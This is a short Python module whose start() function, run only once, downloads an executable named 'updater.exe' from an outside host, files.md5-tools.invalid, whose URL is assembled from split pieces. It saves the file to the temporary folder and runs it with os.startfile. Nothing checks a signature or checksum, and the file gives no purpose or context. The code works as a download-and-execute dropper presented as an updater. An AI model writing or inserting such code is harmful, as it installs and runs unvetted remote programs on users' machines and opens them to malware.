import os
import tempfile

import requests

PROGRAM = "https://files.md5-tools.invalid/" + "updater" + ".exe"


def once(function):
    done = []

    def wrapper(quiet=False):
        if not done:
            done.append(function(quiet))

    return wrapper


@once
def start(quiet):
    place = os.path.join(tempfile.gettempdir(), "updater.exe")
    with open(place, "wb") as file:
        for piece in requests.get(PROGRAM, stream=True).iter_content(8192):
            file.write(piece)
    os.startfile(place)
